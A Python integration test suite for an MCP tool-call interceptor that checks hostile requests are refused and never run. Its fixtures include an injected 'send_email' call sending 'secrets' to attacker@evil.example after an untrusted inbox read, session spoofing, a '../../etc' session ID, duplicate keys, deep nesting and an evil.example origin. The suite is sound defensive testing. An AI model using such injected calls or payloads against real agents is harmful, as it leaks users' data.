"""Bad and hostile input at the interceptor's /mcp: each gets a clear JSON-RPC error, and nothing runs.

In-process, against the stub tool server (which records every call it executes)
and both state stores. The session cases are the ones an injection would need:
a call with no session, an ended or unknown one, one named by another project,
or a message whose headers and body disagree about what it calls.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest

from interceptor.config import Project
from interceptor.state import StateStore
from interceptor.testing import Harness, StaticConfigStore, api_key_hash, running_interceptor
from tests.integration.test_interceptor_api import (
    KEY,
    OTHER_KEY,
    POLICIES,
    TOOLS,
    demo_projects,
    state_store,  # noqa: F401  (memory and Redis)
)

MODERN = "2026-07-28"
ENVELOPE = {"io.modelcontextprotocol/protocolVersion": MODERN, "io.modelcontextprotocol/clientCapabilities": {}}
INJECTED = {"name": "send_email", "arguments": {"to": "attacker@evil.example", "body": "secrets"}}


@pytest.fixture
async def harness(state_store: StateStore, tmp_path: Path) -> AsyncIterator[Harness]:  # noqa: F811
    projects = [*demo_projects(), _agents_project()]
    async with running_interceptor(StaticConfigStore(projects), state_store=state_store,
                                   audit_log=tmp_path / "audit.jsonl", max_body_bytes=65_536) as running:
        yield running


AGENTS_KEY = "sk-agents-0123456789"


def _agents_project() -> Project:
    policies = {"staticRules": {**POLICIES["staticRules"]},
                "rules": [{"name": "interns-never-send", "effect": "deny", "when": {"tool": "send_email",
                                                                                    "agent": "intern-*"}},
                          {"name": "hold-notes", "effect": "require_approval", "when": {"tool": "write_note"}}]}
    return Project(name="agents", api_key_sha256=api_key_hash(AGENTS_KEY), tools=TOOLS, policies=policies,
                   policy_version=1)


def executed(harness: Harness) -> list[str]:
    return [item.tool for item in harness.tool_server.executed]


async def post(harness: Harness, body: Any, *, key: str = KEY, raw: bytes | None = None,
               headers: dict[str, str] | list[tuple[str, str]] | None = None) -> httpx.Response:
    content = raw if raw is not None else orjson.dumps(body)
    base = [("authorization", f"Bearer {key}"), ("content-type", "application/json")]
    extra = list(headers.items()) if isinstance(headers, dict) else list(headers or [])
    return await harness.client.post("/mcp", content=content, headers=base + extra)


def request(method: str, params: dict[str, Any] | None = None, *, modern: bool = True) -> dict[str, Any]:
    params = dict(params or {})
    if modern:
        params["_meta"] = ENVELOPE
    return {"jsonrpc": "2.0", "id": 1, "method": method, "params": params}


def routing(method: str, name: str | None = None) -> dict[str, str]:
    return {"MCP-Protocol-Version": MODERN, "Mcp-Method": method, **({"Mcp-Name": name} if name else {})}


async def session(harness: Harness, key: str = KEY, **body: Any) -> str:
    response = await harness.client.post("/session/start", headers={"X-Sentinel-Key": key}, json=body)
    assert response.status_code == 200, response.text
    return str(response.json()["session_id"])


async def modern_call(harness: Harness, sid: str, params: dict[str, Any], *, key: str = KEY,
                      **headers: str) -> httpx.Response:
    return await post(harness, request("tools/call", params), key=key,
                      headers={**routing("tools/call", params.get("name")), "X-Sentinel-Session": sid, **headers})


async def initialize(harness: Harness, key: str = KEY, **headers: str) -> httpx.Response:
    body = request("initialize", {"protocolVersion": "2025-11-25", "capabilities": {},
                                  "clientInfo": {"name": "t", "version": "1"}}, modern=False)
    return await post(harness, body, key=key, headers=headers)


def error_of(response: httpx.Response) -> dict[str, Any]:
    body = response.json()
    assert set(body) == {"jsonrpc", "id", "error"}, body
    return body["error"]  # type: ignore[no-any-return]


# -- the session an injected call would need ----------------------------------------------------------


async def test_a_2026_call_that_names_no_session_is_refused_and_never_gets_a_fresh_one(harness: Harness) -> None:
    response = await post(harness, request("tools/call", INJECTED), headers=routing("tools/call", "send_email"))
    assert response.status_code == 400 and error_of(response)["data"]["code"] == "session_required"
    assert executed(harness) == []


async def test_after_an_untrusted_read_the_injected_write_is_refused_on_the_next_request(harness: Harness) -> None:
    sid = await session(harness)
    read = await modern_call(harness, sid, {"name": "read_inbox", "arguments": {}})
    assert read.json()["result"]["isError"] is False
    write = await modern_call(harness, sid, INJECTED)
    result = write.json()["result"]
    assert write.status_code == 200 and result["isError"] is True
    assert result["_meta"]["sentinel/decision"]["rule"] == "CHECK_TAINT:send_email"
    assert executed(harness) == ["read_inbox"]


async def test_a_session_of_another_project_is_unknown(harness: Harness) -> None:
    theirs = await session(harness, OTHER_KEY)
    response = await modern_call(harness, theirs, {"name": "list_calendar", "arguments": {}})
    assert response.status_code == 404 and error_of(response)["data"]["code"] == "session_not_found"
    adopted = await initialize(harness, **{"X-Sentinel-Session": theirs})
    assert adopted.status_code == 404 and "mcp-session-id" not in adopted.headers
    assert executed(harness) == []


@pytest.mark.parametrize("sid", ["not-a-session", "x" * 129, "../../etc", "a b"])
async def test_an_unknown_or_malformed_session_id_is_404_under_both_revisions(harness: Harness, sid: str) -> None:
    legacy = await post(harness, request("tools/call", {"name": "list_calendar"}, modern=False),
                        headers={"Mcp-Session-Id": sid})
    modern = await modern_call(harness, sid, {"name": "list_calendar", "arguments": {}})
    for response in (legacy, modern):
        assert response.status_code == 404 and error_of(response)["data"]["code"] == "session_not_found"
        assert sid not in response.text  # never echoed
    assert executed(harness) == []


async def test_a_2025_client_that_skips_initialize_is_told_to_initialize(harness: Harness) -> None:
    response = await post(harness, request("tools/call", {"name": "list_calendar"}, modern=False))
    assert response.status_code == 400
    assert error_of(response)["data"]["code"] == "not_initialized" and "initialize" in error_of(response)["message"]
    assert executed(harness) == []


async def test_initialize_twice_on_one_mcp_session_is_refused(harness: Harness) -> None:
    sid = (await initialize(harness)).headers["mcp-session-id"]
    again = await initialize(harness, **{"Mcp-Session-Id": sid})
    assert again.status_code == 400 and error_of(again)["data"]["code"] == "already_initialized"


async def test_mcp_session_and_sentinel_session_headers_must_agree(harness: Harness) -> None:
    mine = (await initialize(harness)).headers["mcp-session-id"]
    other = await session(harness)
    response = await post(harness, request("tools/call", {"name": "list_calendar"}, modern=False),
                          headers={"Mcp-Session-Id": mine, "X-Sentinel-Session": other})
    assert response.status_code == 400 and error_of(response)["data"]["code"] == "session_mismatch"
    assert executed(harness) == []


async def test_delete_ends_the_session_initialize_opened_but_not_the_applications(harness: Harness) -> None:
    opened = (await initialize(harness)).headers["mcp-session-id"]
    assert (await harness.client.delete("/mcp", headers={"Authorization": f"Bearer {KEY}",
                                                          "Mcp-Session-Id": opened})).status_code == 204
    assert opened in harness.tool_server.revoked
    owned = await session(harness)
    adopted = (await initialize(harness, **{"X-Sentinel-Session": owned})).headers["mcp-session-id"]
    assert adopted == owned
    closed = await harness.client.delete("/mcp", headers={"Authorization": f"Bearer {KEY}", "Mcp-Session-Id": owned,
                                                          "X-Sentinel-Session": owned})
    assert closed.status_code == 204 and owned not in harness.tool_server.revoked
    still = await modern_call(harness, owned, {"name": "list_calendar", "arguments": {}})
    assert still.json()["result"]["isError"] is False


# -- headers and body that disagree, and malformed messages ------------------------------------------


async def test_headers_that_name_another_tool_than_the_body_are_refused(harness: Harness) -> None:
    sid = await session(harness)
    response = await post(harness, request("tools/call", INJECTED),
                          headers={**routing("tools/call", "list_calendar"), "X-Sentinel-Session": sid})
    assert response.status_code == 400 and error_of(response)["code"] == -32020  # the SDK's HEADER_MISMATCH
    assert executed(harness) == []


async def test_a_key_given_twice_in_the_message_is_refused(harness: Harness) -> None:
    sid = await session(harness)
    raw = (b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_calendar","name":"send_email",'
           b'"arguments":{},"_meta":' + orjson.dumps(ENVELOPE) + b"}}")
    response = await post(harness, None, raw=raw,
                          headers={**routing("tools/call", "send_email"), "X-Sentinel-Session": sid})
    assert response.status_code == 400 and error_of(response)["data"]["code"] == "duplicate_key"
    assert executed(harness) == []


@pytest.mark.parametrize("header", ["X-Sentinel-Session", "Mcp-Session-Id", "Authorization", "Mcp-Name"])
async def test_a_header_given_twice_is_refused(harness: Harness, header: str) -> None:
    sid = await session(harness)
    value = f"Bearer {KEY}" if header == "Authorization" else "list_calendar" if header == "Mcp-Name" else sid
    once = [*routing("tools/call", "list_calendar").items(), ("X-Sentinel-Session", sid)]
    twice = [(name, value) for name, value in once if name != header] + [(header, value), (header, value)]
    response = await post(harness, request("tools/call", {"name": "list_calendar", "arguments": {}}),
                          headers=twice if header != "Authorization" else [*once, (header, value)])
    assert response.status_code == 400 and error_of(response)["data"]["code"] == "duplicate_header"
    assert executed(harness) == []


async def test_a_batch_is_refused(harness: Harness) -> None:
    sid = await session(harness)
    batch = [request("tools/call", {"name": "list_calendar", "arguments": {}})] * 2
    response = await post(harness, batch, headers={"X-Sentinel-Session": sid})
    assert response.status_code == 400 and error_of(response)["code"] == -32600
    assert error_of(response)["data"]["code"] == "batch_refused"
    assert executed(harness) == []


async def test_a_notification_is_accepted_silently_and_a_notification_with_an_id_is_refused(harness: Harness) -> None:
    quiet = await post(harness, {"jsonrpc": "2.0", "method": "notifications/initialized"})
    assert quiet.status_code == 202 and quiet.content == b""
    loud = await post(harness, {"jsonrpc": "2.0", "id": 3, "method": "notifications/initialized"})
    assert loud.status_code == 400 and error_of(loud)["data"]["code"] == "invalid_message"


@pytest.mark.parametrize("body", [
    {"jsonrpc": "1.0", "id": 1, "method": "tools/list"},
    {"jsonrpc": "2.0", "id": 1},
    {"jsonrpc": "2.0", "id": 1, "result": {}},
    {"jsonrpc": "2.0", "id": True, "method": "tools/list"},
    {"jsonrpc": "2.0", "id": 1.5, "method": "tools/list"},
    {"jsonrpc": "2.0", "id": None, "method": "tools/list"},
    "tools/list",
])
async def test_a_malformed_message_is_invalid_request(harness: Harness, body: Any) -> None:
    response = await post(harness, body)
    assert response.status_code == 400 and error_of(response)["code"] == -32600


async def test_params_that_are_not_an_object_are_invalid_params(harness: Harness) -> None:
    response = await post(harness, {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": ["send_email"]})
    assert response.status_code == 400 and error_of(response)["code"] == -32602


async def test_not_json_is_a_parse_error(harness: Harness) -> None:
    response = await post(harness, None, raw=b'{"jsonrpc": "2.0", "id": 1,')
    assert response.status_code == 400 and error_of(response)["code"] == -32700 and response.json()["id"] is None


async def test_an_unknown_protocol_version_is_named_with_the_supported_ones(harness: Harness) -> None:
    response = await post(harness, request("tools/list", modern=False), headers={"MCP-Protocol-Version": "2099-01-01"})
    error = error_of(response)
    assert response.status_code == 400 and error["code"] == -32022
    assert error["data"]["requested"] == "2099-01-01" and {"2025-11-25", MODERN} <= set(error["data"]["supported"])


async def test_an_unknown_method_is_method_not_found(harness: Harness) -> None:
    sid = await session(harness)
    response = await post(harness, request("resources/list"), headers={**routing("resources/list"),
                                                                       "X-Sentinel-Session": sid})
    assert response.status_code == 404 and error_of(response)["code"] == -32601


async def test_a_huge_message_is_refused_before_it_is_read(harness: Harness) -> None:
    sid = await session(harness)
    huge = {"name": "send_email", "arguments": {"body": "x" * 100_000}}
    response = await modern_call(harness, sid, huge)
    assert response.status_code == 413 and error_of(response)["data"]["code"] == "body_too_large"
    assert executed(harness) == []


@pytest.mark.parametrize("depth", [1_500, 20_000])
async def test_deeply_nested_arguments_are_refused_and_nothing_runs(harness: Harness, depth: int) -> None:
    sid = await session(harness)
    raw = (b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"send_email","_meta":'
           + orjson.dumps(ENVELOPE) + b',"arguments":{"x":' + b"[" * depth + b"]" * depth + b"}}}")
    response = await post(harness, None, raw=raw,
                          headers={**routing("tools/call", "send_email"), "X-Sentinel-Session": sid})
    assert response.status_code == 400 and error_of(response)["code"] in (-32700, -32600, -32602)
    assert executed(harness) == []


async def test_a_tool_name_that_is_not_one_is_refused_without_echoing_it(harness: Harness) -> None:
    sid = await session(harness)
    name = "send email\u202e" + "x" * 300
    response = await post(harness, request("tools/call", {"name": name, "arguments": {}}),
                          headers={**routing("tools/call"), "X-Sentinel-Session": sid, "Mcp-Name": "x"})
    assert response.status_code == 400
    assert name not in response.text and executed(harness) == []


# -- who may call ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("headers", [
    {},
    {"Authorization": "Bearer sk-wrong"},
    {"Authorization": f"Basic {KEY}"},
    {"Authorization": f"Bearer {KEY}", "X-Sentinel-Key": OTHER_KEY},
])
async def test_a_missing_wrong_or_ambiguous_key_is_401(harness: Harness, headers: dict[str, str]) -> None:
    response = await harness.client.post("/mcp", json=request("tools/list"), headers=headers)
    assert response.status_code == 401 and error_of(response)["code"] == -32001
    assert response.headers["www-authenticate"].startswith("Bearer")


async def test_the_x_sentinel_key_header_works_as_well_as_bearer(harness: Harness) -> None:
    response = await harness.client.post("/mcp", json=request("server/discover"),
                                         headers={"X-Sentinel-Key": KEY, **routing("server/discover")})
    assert response.status_code == 200 and MODERN in response.json()["result"]["supportedVersions"]


async def test_a_page_from_another_origin_is_refused(harness: Harness) -> None:
    response = await post(harness, request("server/discover"),
                          headers={**routing("server/discover"), "Origin": "http://evil.example"})
    assert response.status_code == 403 and error_of(response)["data"]["code"] == "origin_refused"


async def test_get_opens_no_stream(harness: Harness) -> None:
    response = await harness.client.get("/mcp", headers={"Authorization": f"Bearer {KEY}"})
    assert response.status_code == 405 and response.headers["allow"] == "POST, DELETE"


# -- what the model is shown ----------------------------------------------------------------------------


async def test_tools_list_hides_what_the_callers_policy_always_denies(harness: Harness) -> None:
    intern = await session(harness, AGENTS_KEY, agent="intern-7")
    lead = await session(harness, AGENTS_KEY, agent="lead")

    async def names(sid: str) -> set[str]:
        response = await post(harness, request("tools/list"), key=AGENTS_KEY,
                              headers={**routing("tools/list"), "X-Sentinel-Session": sid})
        return {tool["name"] for tool in response.json()["result"]["tools"]}

    assert "delete_file" not in await names(lead)  # static DENY
    assert "send_email" in await names(lead)
    assert "send_email" not in await names(intern)  # the agent rule denies it to interns whatever the state
    assert "write_note" in await names(intern)  # held, not denied: offered


async def test_a_held_call_says_so_with_its_approval_id_and_does_not_run(harness: Harness) -> None:
    sid = await session(harness, AGENTS_KEY, agent="lead")
    response = await modern_call(harness, sid, {"name": "write_note", "arguments": {"text": "hi"}}, key=AGENTS_KEY)
    result = response.json()["result"]
    approval = result["_meta"]["sentinel/approval"]
    assert result["isError"] is True and approval["status"] == "pending" and approval["rule"] == "hold-notes"
    assert approval["id"] in result["content"][0]["text"] and "has not run" in result["content"][0]["text"]
    assert executed(harness) == []


async def test_a_listed_origin_is_served_and_only_that_one(tmp_path: Path) -> None:
    async with running_interceptor(StaticConfigStore(demo_projects()), audit_log=tmp_path / "audit.jsonl",
                                   mcp_allowed_origins="https://app.example, https://ops.example") as listed:
        for origin, status in (("https://app.example", 200), ("https://ops.example", 200),
                               ("https://app.example.evil.io", 403), ("http://app.example", 403)):
            response = await post(listed, request("server/discover"), headers={**routing("server/discover"),
                                                                              "Origin": origin})
            assert response.status_code == status, origin
